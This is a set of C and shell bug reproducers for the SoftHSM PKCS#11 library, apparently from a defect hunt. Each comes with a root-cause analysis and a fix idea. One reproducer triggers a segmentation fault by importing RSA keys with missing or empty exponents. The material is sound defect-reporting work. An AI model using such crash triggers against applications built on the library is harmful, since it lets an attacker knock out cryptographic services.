	CK_ATTRIBUTE g[] = { ATTR(CKA_VALUE_LEN, vl), { CKA_VALUE, v, sizeof(v) }, { CKA_CHECK_VALUE, kcv, sizeof(kcv) } };
	CK_RV rv = F->C_GetAttributeValue(s, h, g, NEL(g));
	int lie = (rv == CKR_OK && vl != g[1].ulValueLen);
	printf("%-58s CKA_VALUE_LEN=%lu, CKA_VALUE has %lu bytes, CKA_CHECK_VALUE has %lu bytes%s\n", what, vl, g[1].ulValueLen, g[2].ulValueLen, lie ? "   <-- WRONG" : "");
	if (lie) reproduced = 1;
}

int main(int argc, char** argv)
{
	if (argc < 2) { printf("usage: %s <libdir>\n", argv[0]); return 2; }
	setvbuf(stdout, NULL, _IONBF, 0);
	setup(argv[1]);
	init_token();
	s = open_rw(); login_user(s);
	CK_OBJECT_CLASS cSecret = CKO_SECRET_KEY;
	CK_KEY_TYPE kAES = CKK_AES, kGen = CKK_GENERIC_SECRET;
	CK_OBJECT_HANDLE kek = gen_aes(s, CK_FALSE, CK_FALSE, CK_TRUE), k = gen_aes(s, CK_FALSE, CK_FALSE, CK_TRUE), h;
	CK_RV rv;
	check("reference: AES-256 key from C_GenerateKey", k);

	/* a) wrap / unwrap */
	CK_BYTE w[256]; CK_ULONG wl = sizeof(w); CK_MECHANISM wm = { CKM_AES_KEY_WRAP, NULL, 0 };
	CHECK(F->C_WrapKey(s, &wm, kek, k, w, &wl));
	CK_ATTRIBUTE ut[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kAES), ATTR(CKA_SENSITIVE, bFalse), ATTR(CKA_EXTRACTABLE, bTrue), ATTR(CKA_ENCRYPT, bTrue) };
	CHECK(F->C_UnwrapKey(s, &wm, kek, w, wl, ut, NEL(ut), &h));
	check("a) the same key after C_WrapKey/C_UnwrapKey", h);
	CK_ULONG l32 = 32;
	CK_ATTRIBUTE ut2[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kAES), ATTR(CKA_VALUE_LEN, l32) };
	printf("   C_UnwrapKey with CKA_VALUE_LEN=32 in the template: rv=0x%lx\n", F->C_UnwrapKey(s, &wm, kek, w, wl, ut2, NEL(ut2), &h));

	/* b) derive without CKA_VALUE_LEN */
	CK_OBJECT_HANDLE pub, priv;
	CHECK(gen_ec(s, CK_FALSE, &pub, &priv));
	CK_BYTE pt[80]; CK_ATTRIBUTE gp = { CKA_EC_POINT, pt, sizeof(pt) };
	CHECK(F->C_GetAttributeValue(s, pub, &gp, 1));
	CK_ECDH1_DERIVE_PARAMS ep = { CKD_NULL, 0, NULL, gp.ulValueLen, pt };
	CK_MECHANISM em = { CKM_ECDH1_DERIVE, &ep, sizeof(ep) };
	CK_ATTRIBUTE dg[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kGen), ATTR(CKA_SENSITIVE, bFalse), ATTR(CKA_EXTRACTABLE, bTrue) };
	CK_ATTRIBUTE da[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kAES), ATTR(CKA_SENSITIVE, bFalse), ATTR(CKA_EXTRACTABLE, bTrue) };
	rv = F->C_DeriveKey(s, &em, priv, dg, NEL(dg), &h);
	if (rv == CKR_OK) check("b) CKM_ECDH1_DERIVE -> CKK_GENERIC_SECRET, no CKA_VALUE_LEN", h); else printf("b) ECDH generic rv=0x%lx\n", rv);
	rv = F->C_DeriveKey(s, &em, priv, da, NEL(da), &h);
	if (rv == CKR_OK) check("b) CKM_ECDH1_DERIVE -> CKK_AES, no CKA_VALUE_LEN", h); else printf("b) ECDH AES rv=0x%lx\n", rv);
	CK_BYTE d[16] = { 1, 2, 3 }; CK_KEY_DERIVATION_STRING_DATA sd = { d, sizeof(d) };
	CK_MECHANISM cm = { CKM_CONCATENATE_BASE_AND_DATA, &sd, sizeof(sd) };
	CK_ATTRIBUTE dc[] = { ATTR(CKA_SENSITIVE, bFalse), ATTR(CKA_EXTRACTABLE, bTrue) };
	rv = F->C_DeriveKey(s, &cm, k, dc, NEL(dc), &h);
	if (rv == CKR_OK) check("b) CKM_CONCATENATE_BASE_AND_DATA (32 + 16 bytes)", h); else printf("b) concat rv=0x%lx\n", rv);

	/* c) no length check in C_UnwrapKey */
	CK_BYTE v40[40]; memset(v40, 7, sizeof(v40)); CK_OBJECT_HANDLE g40;
	CK_ATTRIBUTE ct[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kGen), { CKA_VALUE, v40, sizeof(v40) }, ATTR(CKA_EXTRACTABLE, bTrue) };
	CHECK(F->C_CreateObject(s, ct, NEL(ct), &g40));
	wl = sizeof(w);
	CHECK(F->C_WrapKey(s, &wm, kek, g40, w, &wl));
	rv = F->C_UnwrapKey(s, &wm, kek, w, wl, ut, NEL(ut), &h);
	printf("c) C_UnwrapKey of a 40 byte secret as CKK_AES: rv=0x%lx%s\n", rv, rv == CKR_OK ? "   <-- accepted" : "");
	if (rv == CKR_OK) {
		reproduced = 1;
		check("c) that \"AES key\"", h);
		CK_MECHANISM e = { CKM_AES_ECB, NULL, 0 };
		printf("   C_EncryptInit(CKM_AES_ECB) with it: rv=0x%lx\n", F->C_EncryptInit(s, &e, h));
	}
	F->C_Finalize(NULL);
	cleanup();
	printf("%s\n", reproduced ? "DEFECT REPRODUCED" : "not reproduced");
	return reproduced;
}
