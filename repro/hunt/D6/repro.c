/*
 * DEFECT 6: CKA_VALUE_LEN of a secret key that was produced by C_UnwrapKey - and of a key produced by
 *           C_DeriveKey when the template does not carry CKA_VALUE_LEN (ECDH / X25519 default length,
 *           CKM_CONCATENATE_*) - is 0 instead of the length of the key.
 *
 * WHAT IS DONE
 *   1. A 32 byte AES key is created (C_CreateObject) -> CKA_VALUE_LEN = 32 (control).
 *      It is wrapped with CKM_AES_KEY_WRAP_PAD under another AES key (the blob is identical to what
 *      libcrypto's EVP_aes_128_wrap_pad produces) and unwrapped again with C_UnwrapKey (CKK_AES).
 *      The unwrapped key has the right CKA_VALUE (32 bytes, identical) and encrypts correctly, but
 *      C_GetAttributeValue(CKA_VALUE_LEN) says 0.   Same for CKM_AES_KEY_WRAP, CKM_AES_CBC_PAD,
 *      CKM_RSA_PKCS and CKM_RSA_PKCS_OAEP unwrapping and for CKK_GENERIC_SECRET.
 *   2. A P-256 key pair is generated, C_DeriveKey(CKM_ECDH1_DERIVE) into CKK_AES without CKA_VALUE_LEN
 *      (the library explicitly supports that: "byteLen == 0 implies return max size") gives a 32 byte
 *      key whose CKA_VALUE_LEN is 0.
 *   3. C_DeriveKey(CKM_CONCATENATE_BASE_AND_DATA) without CKA_VALUE_LEN: 36 byte generic secret,
 *      CKA_VALUE_LEN = 0.
 *
 * OBSERVED (unmodified tree)
 *   created  AES key : CKA_VALUE has 32 bytes, CKA_VALUE_LEN = 32
 *   unwrapped AES key: CKA_VALUE has 32 bytes, CKA_VALUE_LEN = 0     <-- defect
 *   ECDH derived key : CKA_VALUE has 32 bytes, CKA_VALUE_LEN = 0     <-- defect
 *   concatenated key : CKA_VALUE has 36 bytes, CKA_VALUE_LEN = 0     <-- defect
 *
 * EXPECTED
 *   CKA_VALUE_LEN = length in bytes of the key value, as for created / generated keys.  Applications
 *   that cannot read CKA_VALUE (sensitive keys - the normal case for unwrapped keys) rely on
 *   CKA_VALUE_LEN to learn whether they hold an AES-128/192/256 key (e.g. Java SunPKCS11 computes the
 *   key size from it).
 *
 * ROOT CAUSE
 *   CKA_VALUE_LEN is only maintained by P11AttrValue::updateAttr() (src/lib/P11Attributes.cpp:977-994,
 *   "Set the size during C_CreateObject and C_UnwrapKey"), i.e. only when CKA_VALUE passes through the
 *   template machinery.  C_UnwrapKey, however, creates the object from the caller's template (which
 *   must not contain CKA_VALUE) and then stores the unwrapped bytes directly:
 *       src/lib/SoftHSM.cpp:7241-7248   bOK = bOK && osobject->setAttribute(CKA_VALUE, value);
 *   so CKA_VALUE_LEN keeps the default written by P11AttrValueLen::setDefault() (P11Attributes.cpp:2273-2277: 0).  The derive functions
 *   do the same (SoftHSM.cpp:10658, 10995, 11333, 11910) and only get a right CKA_VALUE_LEN when the
 *   caller happened to put it into the template; for the default lengths computed at
 *   SoftHSM.cpp:10936-10953 (ECDH), 11274-11291 (X25519/X448) and 11699-11706 (concatenate) nothing
 *   updates it.
 *
 * FIX IDEA
 *   After storing CKA_VALUE of a secret key in C_UnwrapKey / derive*: if
 *   osobject->attributeExists(CKA_VALUE_LEN) then
 *   osobject->setAttribute(CKA_VALUE_LEN, OSAttribute((unsigned long)plainValue.size()));
 *
 * exit status: 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
/* ---- common set-up code (identical in all reproducers) ---- */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static CK_SESSION_HANDLE S;
static char g_tmpdir[1100];
static CK_BBOOL T_ = CK_TRUE, F_ = CK_FALSE;

#define CHECK(rv, what) do { CK_RV _r = (rv); if (_r != CKR_OK) { fprintf(stderr, "%s:%d %s failed: 0x%lx\n", __FILE__, __LINE__, what, (unsigned long)_r); exit(2);} } while (0)

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
	printf("%s (%zu bytes) ", label, n);
	for (size_t i = 0; i < n; i++) printf("%02x", p[i]);
	printf("\n");
}

/* loads <libdir>/libsofthsm2.so, creates a fresh token in a temp dir, opens a R/W session and logs in as user */
static void setup(const char *libdir)
{
	char path[1024], conf[1024];
	if (!getcwd(path, sizeof path)) exit(2);
	snprintf(g_tmpdir, sizeof g_tmpdir, "%s/tmp.XXXXXX", path);
	if (!mkdtemp(g_tmpdir)) { perror("mkdtemp"); exit(2); }
	snprintf(path, sizeof path, "%s/tokens", g_tmpdir);
	mkdir(path, 0700);
	snprintf(conf, sizeof conf, "%s/softhsm2.conf", g_tmpdir);
	FILE *f = fopen(conf, "w");
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_tmpdir);
	fclose(f);
	setenv("SOFTHSM2_CONF", conf, 1);
	snprintf(path, sizeof path, "%s/libsofthsm2.so", libdir);
	void *h = dlopen(path, RTLD_NOW);
	if (!h) { fprintf(stderr, "dlopen: %s\n", dlerror()); exit(2); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	CHECK(gfl(&F), "C_GetFunctionList");
	CHECK(F->C_Initialize(NULL), "C_Initialize");
	CK_SLOT_ID slots[8]; CK_ULONG n = 8;
	CHECK(F->C_GetSlotList(CK_FALSE, slots, &n), "C_GetSlotList");
	CK_UTF8CHAR label[32]; memset(label, ' ', 32); memcpy(label, "repro", 5);
	CHECK(F->C_InitToken(slots[0], (CK_UTF8CHAR_PTR)"12345678", 8, label), "C_InitToken");
	n = 8;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n), "C_GetSlotList");
	CK_SLOT_ID slot = slots[0];
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		if (F->C_GetTokenInfo(slots[i], &ti) == CKR_OK && (ti.flags & CKF_TOKEN_INITIALIZED)) { slot = slots[i]; break; }
	}
	CHECK(F->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &S), "C_OpenSession");
	CHECK(F->C_Login(S, CKU_SO, (CK_UTF8CHAR_PTR)"12345678", 8), "C_Login SO");
	CHECK(F->C_InitPIN(S, (CK_UTF8CHAR_PTR)"1234", 4), "C_InitPIN");
	CHECK(F->C_Logout(S), "C_Logout");
	CHECK(F->C_Login(S, CKU_USER, (CK_UTF8CHAR_PTR)"1234", 4), "C_Login user");
}

static void cleanup(void)
{
	char cmd[1200];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", g_tmpdir);
	if (strstr(g_tmpdir, "/tmp.")) system(cmd);
}

static int get_attr(CK_OBJECT_HANDLE h, CK_ATTRIBUTE_TYPE type, void *buf, size_t *len)
{
	CK_ATTRIBUTE a = {type, buf, *len};
	CK_RV rv = F->C_GetAttributeValue(S, h, &a, 1);
	if (rv != CKR_OK) { *len = 0; return (int)rv; }
	*len = a.ulValueLen;
	return 0;
}
/* ---- end of common set-up code ---- */
#include <openssl/evp.h>
#include <openssl/ec.h>
#include <openssl/objects.h>

static int report(const char *what, CK_OBJECT_HANDLE h)
{
	unsigned char v[100]; size_t vl = sizeof v; CK_ULONG len = 12345; size_t ll = sizeof len;
	CHECK(get_attr(h, CKA_VALUE, v, &vl), "get CKA_VALUE");
	int r = get_attr(h, CKA_VALUE_LEN, &len, &ll);
	printf("%-18s: CKA_VALUE has %zu bytes, CKA_VALUE_LEN = %lu%s%s\n", what, vl, len, r ? " (not readable)" : "", (!r && len != vl) ? "     <-- wrong" : "");
	return !r && len != vl;
}

int main(int argc, char **argv)
{
	if (argc < 2) { fprintf(stderr, "usage: %s <libdir>\n", argv[0]); return 2; }
	setup(argv[1]);
	int bad = 0;
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY; CK_KEY_TYPE aes = CKK_AES, gen = CKK_GENERIC_SECRET;
	unsigned char wkv[16] = {9, 9, 9}, kv[32]; for (int i = 0; i < 32; i++) kv[i] = (unsigned char)(i * 7 + 1);
	CK_ATTRIBUTE twk[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &aes, sizeof aes}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, &F_, 1}, {CKA_WRAP, &T_, 1}, {CKA_UNWRAP, &T_, 1}, {CKA_VALUE, wkv, 16}};
	CK_ATTRIBUTE tk[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &aes, sizeof aes}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}, {CKA_DERIVE, &T_, 1}, {CKA_VALUE, kv, 32}};
	CK_OBJECT_HANDLE wk, k, uk;
	CHECK(F->C_CreateObject(S, twk, 7, &wk), "create wrapping key");
	CHECK(F->C_CreateObject(S, tk, 8, &k), "create key");
	if (report("created AES key", k)) { printf("control fails\n"); return 2; }

	/* 1. wrap + unwrap */
	CK_MECHANISM wm = {CKM_AES_KEY_WRAP_PAD, NULL, 0}; unsigned char blob[64], ref[64]; CK_ULONG bl = sizeof blob;
	CHECK(F->C_WrapKey(S, &wm, wk, k, blob, &bl), "C_WrapKey");
	{	/* the blob is what RFC 5649 says */
		EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new(); int l1 = 0, l2 = 0; EVP_CIPHER_CTX_set_flags(c, EVP_CIPHER_CTX_FLAG_WRAP_ALLOW);
		EVP_EncryptInit_ex(c, EVP_aes_128_wrap_pad(), NULL, wkv, NULL); EVP_EncryptUpdate(c, ref, &l1, kv, 32); EVP_EncryptFinal_ex(c, ref + l1, &l2); EVP_CIPHER_CTX_free(c);
		printf("wrapped blob %s libcrypto's RFC 5649 result\n", ((CK_ULONG)(l1 + l2) == bl && !memcmp(ref, blob, bl)) ? "equals" : "DIFFERS FROM");
	}
	CK_ATTRIBUTE tu[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &aes, sizeof aes}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}, {CKA_ENCRYPT, &T_, 1}};
	CHECK(F->C_UnwrapKey(S, &wm, wk, blob, bl, tu, 7, &uk), "C_UnwrapKey");
	bad += report("unwrapped AES key", uk);

	/* 2. ECDH without CKA_VALUE_LEN */
	{
		unsigned char oid[32], *p = oid; int ol = i2d_ASN1_OBJECT(OBJ_nid2obj(NID_X9_62_prime256v1), &p);
		CK_ATTRIBUTE tpub[] = {{CKA_EC_PARAMS, oid, ol}};
		CK_ATTRIBUTE tpriv[] = {{CKA_DERIVE, &T_, 1}, {CKA_PRIVATE, &F_, 1}};
		CK_MECHANISM gm = {CKM_EC_KEY_PAIR_GEN, NULL, 0}; CK_OBJECT_HANDLE pub, priv, dk;
		CHECK(F->C_GenerateKeyPair(S, &gm, tpub, 1, tpriv, 2, &pub, &priv), "generate P-256");
		EC_KEY *peer = EC_KEY_new_by_curve_name(NID_X9_62_prime256v1); EC_KEY_generate_key(peer);
		unsigned char raw[65]; EC_POINT_point2oct(EC_KEY_get0_group(peer), EC_KEY_get0_public_key(peer), POINT_CONVERSION_UNCOMPRESSED, raw, 65, NULL);
		CK_ECDH1_DERIVE_PARAMS dp = {CKD_NULL, 0, NULL, 65, raw}; CK_MECHANISM dm = {CKM_ECDH1_DERIVE, &dp, sizeof dp};
		CK_ATTRIBUTE td[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &aes, sizeof aes}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}};
		CHECK(F->C_DeriveKey(S, &dm, priv, td, 6, &dk), "C_DeriveKey ECDH");
		bad += report("ECDH derived key", dk);
	}
	/* 3. concatenate without CKA_VALUE_LEN */
	{
		unsigned char data[4] = {1, 2, 3, 4}; CK_KEY_DERIVATION_STRING_DATA sd = {data, 4};
		CK_MECHANISM dm = {CKM_CONCATENATE_BASE_AND_DATA, &sd, sizeof sd}; CK_OBJECT_HANDLE dk;
		CK_ATTRIBUTE td[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &gen, sizeof gen}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}};
		CHECK(F->C_DeriveKey(S, &dm, k, td, 6, &dk), "C_DeriveKey concatenate");
		bad += report("concatenated key", dk);
	}
	F->C_Finalize(NULL);
	cleanup();
	printf(bad ? "DEFECT REPRODUCED: %d keys report CKA_VALUE_LEN = 0\n" : "not reproduced\n", bad);
	return bad ? 1 : 0;
}
