#!/bin/sh
# usage: run.sh <directory that contains libsofthsm2.so>
# exit status 1 = defect reproduced, 0 = not reproduced, 2 = set-up problem
here=$(cd "$(dirname "$0")" && pwd)
lib=${1:-$here/../../_build/src/lib}
lib=$(cd "$lib" && pwd) || exit 2
cd "$here" || exit 2
${CC:-gcc} -g -O1 -Wall -Wno-deprecated-declarations -Wno-unused-function -Wno-format-truncation -I"$here/../../src/lib/pkcs11" -o repro repro.c -ldl -lcrypto || exit 2
# an ASan-instrumented library needs the ASan runtime to be loaded first
if nm -D "$lib/libsofthsm2.so" 2>/dev/null | grep -q __asan_init; then
	export ASAN_OPTIONS=detect_leaks=0
	LD_PRELOAD=$(clang -print-file-name=libclang_rt.asan-x86_64.so) ./repro "$lib"
else
	./repro "$lib"
fi
st=$?
rm -rf repro tmp.??????
exit $st
