/*
 * Defect 3: an RSA key object that lacks a usable public exponent is accepted by
 * C_CreateObject and crashes the process (SIGSEGV) when it is used.
 *
 *   case A (spec-conformant input): an RSA PRIVATE key is imported with the two
 *           attributes PKCS#11 marks as mandatory for C_CreateObject - CKA_MODULUS
 *           and CKA_PRIVATE_EXPONENT (genuine values of a real key) - and nothing
 *           else.  C_DecryptInit(CKM_RSA_PKCS) succeeds, C_Decrypt of a ciphertext
 *           made with the matching public key segfaults.  (C_Sign with the same key
 *           "only" fails with CKR_GENERAL_ERROR.)
 *   case B (degenerate input): an RSA PUBLIC key with a genuine modulus and an
 *           empty CKA_PUBLIC_EXPONENT: C_EncryptInit succeeds, C_Encrypt segfaults.
 *
 * Expected: CKR_TEMPLATE_INCOMPLETE / CKR_ATTRIBUTE_VALUE_INVALID from C_CreateObject,
 * or a working key (n and d are sufficient for RSA), or an error code from the
 * operation - never a crash of the host application.
 *
 * Root cause: src/lib/crypto/OSSLRSAPrivateKey.cpp:280-319 createOSSLKey() (and
 * the same code in OSSLRSAPublicKey.cpp:124-155) turns every component into a BIGNUM with
 * OSSL::byteString2bn(), which yields NULL for an empty ByteString, and calls
 * RSA_set0_key(rsa, bn_n, bn_e, bn_d) WITHOUT looking at the result.  OpenSSL
 * refuses the call when e is NULL, so the RSA object keeps n == NULL (and bn_n /
 * bn_d leak).  OSSLRSA::decrypt() (OSSLRSA.cpp:1296-1299) and OSSLRSA::encrypt()
 * (1220-1229) then evaluate RSA_size(rsa) -> BN_num_bits(NULL) -> NULL dereference.
 * SoftHSM::getRSAPrivateKey() (SoftHSM.cpp:12078 ff.) never checks that the
 * components it needs are present.  The same pattern (components not validated,
 * NULL BIGNUMs handed to OpenSSL) also crashes C_Sign with a DSA private key whose
 * CKA_PRIME is empty and C_WrapKey of a DH private key whose CKA_PRIME is empty.
 * Fix idea: check the result of RSA_set0_key()/RSA_set0_factors()/... in
 * createOSSLKey() and free the RSA object on failure so that getOSSLKey() returns
 * NULL; make OSSLRSA::encrypt/decrypt/sign/verify return false for a NULL key or a
 * key without modulus; reject RSA templates whose modulus / exponents are empty
 * (and, if n+d-only keys are not supported, private keys without public exponent)
 * in C_CreateObject with CKR_TEMPLATE_INCOMPLETE.
 *
 * Every case runs in a child process; the parent only looks at how it ended.
 * usage: repro <dir with libsofthsm2.so>      exit 1 = reproduced, 0 = not
 */
#include "common.h"
#include <sys/wait.h>

static int child(const char* libdir, int which)
{
	setup(libdir);
	init_token();
	CK_SESSION_HANDLE s = open_rw(); login_user(s);
	CK_OBJECT_CLASS cPub = CKO_PUBLIC_KEY, cPriv = CKO_PRIVATE_KEY;
	CK_KEY_TYPE kRSA = CKK_RSA;
	CK_RV rv; CK_OBJECT_HANDLE pub, priv, h;

	/* a genuine key pair whose private exponent can be read */
	CK_MECHANISM gm = { CKM_RSA_PKCS_KEY_PAIR_GEN, NULL, 0 };
	CK_ULONG bits = 1024; CK_BYTE e[] = { 1, 0, 1 };
	CK_ATTRIBUTE pt[] = { ATTR(CKA_MODULUS_BITS, bits), { CKA_PUBLIC_EXPONENT, e, 3 }, ATTR(CKA_ENCRYPT, bTrue) };
	CK_ATTRIBUTE vt[] = { ATTR(CKA_SENSITIVE, bFalse), ATTR(CKA_EXTRACTABLE, bTrue), ATTR(CKA_DECRYPT, bTrue) };
	CHECK(F->C_GenerateKeyPair(s, &gm, pt, NEL(pt), vt, NEL(vt), &pub, &priv));
	CK_BYTE n[128], d[128];
	CK_ATTRIBUTE g[] = { { CKA_MODULUS, n, sizeof(n) }, { CKA_PRIVATE_EXPONENT, d, sizeof(d) } };
	CHECK(F->C_GetAttributeValue(s, priv, g, 2));

	CK_MECHANISM m = { CKM_RSA_PKCS, NULL, 0 };
	CK_BYTE msg[] = "attack at dawn", ct[128], out[128]; CK_ULONG ctl = sizeof(ct), ol = sizeof(out);
	if (which == 0) {
		CHECK(F->C_EncryptInit(s, &m, pub));
		CHECK(F->C_Encrypt(s, msg, sizeof(msg), ct, &ctl));
		CK_ATTRIBUTE t[] = { ATTR(CKA_CLASS, cPriv), ATTR(CKA_KEY_TYPE, kRSA), { CKA_MODULUS, n, g[0].ulValueLen },
			{ CKA_PRIVATE_EXPONENT, d, g[1].ulValueLen }, ATTR(CKA_DECRYPT, bTrue), ATTR(CKA_SIGN, bTrue) };
		rv = F->C_CreateObject(s, t, NEL(t), &h);
		printf("  C_CreateObject(RSA private key: CKA_MODULUS + CKA_PRIVATE_EXPONENT only) rv=0x%lx\n", rv);
		if (rv != CKR_OK) return 0;
		rv = F->C_SignInit(s, &m, h);
		if (rv == CKR_OK) { ol = sizeof(out); rv = F->C_Sign(s, msg, sizeof(msg), out, &ol); }
		printf("  C_SignInit/C_Sign(CKM_RSA_PKCS) rv=0x%lx\n", rv);
		rv = F->C_DecryptInit(s, &m, h);
		printf("  C_DecryptInit(CKM_RSA_PKCS) rv=0x%lx\n", rv);
		if (rv != CKR_OK) return 0;
		ol = sizeof(out);
		rv = F->C_Decrypt(s, ct, ctl, out, &ol);
		printf("  C_Decrypt rv=0x%lx len=%lu %s\n", rv, ol, (rv == CKR_OK && ol == sizeof(msg) && !memcmp(out, msg, ol)) ? "(plaintext correct)" : "");
	} else {
		CK_ATTRIBUTE t[] = { ATTR(CKA_CLASS, cPub), ATTR(CKA_KEY_TYPE, kRSA), { CKA_MODULUS, n, g[0].ulValueLen },
			{ CKA_PUBLIC_EXPONENT, e, 0 }, ATTR(CKA_ENCRYPT, bTrue) };
		rv = F->C_CreateObject(s, t, NEL(t), &h);
		printf("  C_CreateObject(RSA public key with empty CKA_PUBLIC_EXPONENT) rv=0x%lx\n", rv);
		if (rv != CKR_OK) return 0;
		rv = F->C_EncryptInit(s, &m, h);
		printf("  C_EncryptInit(CKM_RSA_PKCS) rv=0x%lx\n", rv);
		if (rv != CKR_OK) return 0;
		rv = F->C_Encrypt(s, msg, sizeof(msg), ct, &ctl);
		printf("  C_Encrypt rv=0x%lx\n", rv);
	}
	F->C_Finalize(NULL);
	return 0;
}

int main(int argc, char** argv)
{
	if (argc < 2) { printf("usage: %s <libdir>\n", argv[0]); return 2; }
	setvbuf(stdout, NULL, _IONBF, 0);
	int reproduced = 0;
	const char* names[] = { "A: private key with modulus and private exponent only, C_Decrypt", "B: public key with empty public exponent, C_Encrypt" };
	for (int which = 0; which < 2; which++) {
		printf("case %s\n", names[which]);
		char dir[64] = "/tmp/wthC-XXXXXX", cmd[128];
		if (!mkdtemp(dir)) { perror("mkdtemp"); return 2; }
		setenv("WTHC_DIR", dir, 1);
		pid_t pid = fork();
		if (pid == 0) { _exit(child(argv[1], which)); }
		int st = 0; waitpid(pid, &st, 0);
		snprintf(cmd, sizeof(cmd), "rm -rf %s", dir); if (system(cmd)) {}
		if (WIFSIGNALED(st)) { printf("  => child KILLED BY SIGNAL %d inside the library call - DEFECT REPRODUCED\n", WTERMSIG(st)); reproduced = 1; }
		else if (WEXITSTATUS(st) == 0) printf("  => child ended normally\n");
		else if (WEXITSTATUS(st) == 2) { printf("  => set-up problem in the child\n"); return 2; }
		else { printf("  => child process TERMINATED INSIDE the library call with status %d (5 = exit(CKR_GENERAL_ERROR) of the library, 1 = sanitizer abort) - DEFECT REPRODUCED\n", WEXITSTATUS(st)); reproduced = 1; }
	}
	return reproduced;
}
