/*
 * Defect 1: a FAILING update of a token object (or of the token itself)
 * destroys it.
 *
 * Stage A: C_SetAttributeValue on a token key fails because the object file
 *          cannot be written (here: RLIMIT_FSIZE, the same happens on a full
 *          disk / quota).  The call returns an error, but the key is gone: in
 *          the calling session, in every other session and in the token
 *          directory after C_Finalize/C_Initialize.
 * Stage B: C_SetPIN fails the same way; afterwards the whole token (all keys)
 *          is gone - the slot shows an uninitialised token.
 *
 * Root cause: src/lib/object_store/ObjectFile.cpp, ObjectFile::writeAttributes()
 * (line 522 ff.) rewrites the only copy of the object IN PLACE: line 533
 * objectFile.truncate() (ftruncate(fd,0), File.cpp:660) discards the old image,
 * then everything is written through a buffered FILE* and the error only shows
 * at objectFile.flush() (line 657).  ObjectFile::store() (line 672 ff., called by
 * commitTransaction() line 822 and by setAttribute() line 231) answers with
 * valid = false, i.e. it also drops the intact in-memory copy.  The token itself
 * is an ObjectFile (OSToken::setUserPIN(), OSToken.cpp:200-221), hence stage B.
 * Fix idea: write the new image to "<uuid>.object.tmp", fflush+fsync, rename()
 * over the old file; on any error unlink the temporary file, keep the old file
 * and roll the in-memory attributes back instead of invalidating the object.
 *
 * usage: repro <dir with libsofthsm2.so>      exit 1 = reproduced, 0 = not
 */
#include "common.h"
#include <sys/resource.h>
#include <signal.h>

static struct rlimit oldlim;
static void limit(rlim_t n) { struct rlimit rl = oldlim; rl.rlim_cur = n; setrlimit(RLIMIT_FSIZE, &rl); }
static void unlimit(void) { setrlimit(RLIMIT_FSIZE, &oldlim); }

static int stageA(void)
{
	int reproduced = 0;
	CK_SESSION_HANDLE s = open_rw(), s2 = open_rw();
	login_user(s);
	CK_OBJECT_HANDLE k = gen_aes(s, CK_TRUE /*token*/, CK_FALSE /*sensitive*/, CK_TRUE /*extractable*/);
	CK_BYTE v1[64], v2[64];
	CK_ATTRIBUTE g1 = { CKA_VALUE, v1, sizeof(v1) }, g2 = { CKA_VALUE, v2, sizeof(v2) };
	CHECK(F->C_GetAttributeValue(s, k, &g1, 1));
	printf("[A] token key created, objects: session1=%lu session2=%lu, object files=%d\n", count_objects(s), count_objects(s2), count_files() / 2);

	char label[2000]; memset(label, 'L', sizeof(label));
	CK_ATTRIBUTE t = { CKA_LABEL, label, sizeof(label) };
	limit(300);                       /* writes beyond 300 bytes fail with EFBIG */
	CK_RV rv = F->C_SetAttributeValue(s, k, &t, 1);
	unlimit();
	printf("[A] C_SetAttributeValue(CKA_LABEL) while the file cannot grow: rv=0x%lx\n", rv);
	if (rv == CKR_OK) { printf("[A] the write did not fail - cannot judge\n"); return 0; }

	rv = F->C_GetAttributeValue(s, k, &g2, 1);
	printf("[A] same session, C_GetAttributeValue(CKA_VALUE) on the key: rv=0x%lx%s\n", rv, rv == CKR_OK ? "" : "   <-- key handle is dead");
	if (rv != CKR_OK || g2.ulValueLen != g1.ulValueLen || memcmp(v1, v2, g1.ulValueLen)) reproduced = 1;
	CK_ULONG n1 = count_objects(s), n2 = count_objects(s2);
	printf("[A] objects after the FAILED call: session1=%lu session2=%lu (expected 1/1)\n", n1, n2);
	if (n1 != 1 || n2 != 1) reproduced = 1;
	CHECK(F->C_Finalize(NULL));
	CHECK(F->C_Initialize(NULL));
	g_slot = find_slot();
	s = open_rw(); login_user(s);
	n1 = count_objects(s);
	printf("[A] objects after C_Finalize/C_Initialize: %lu (expected 1)\n", n1);
	if (n1 != 1) reproduced = 1;
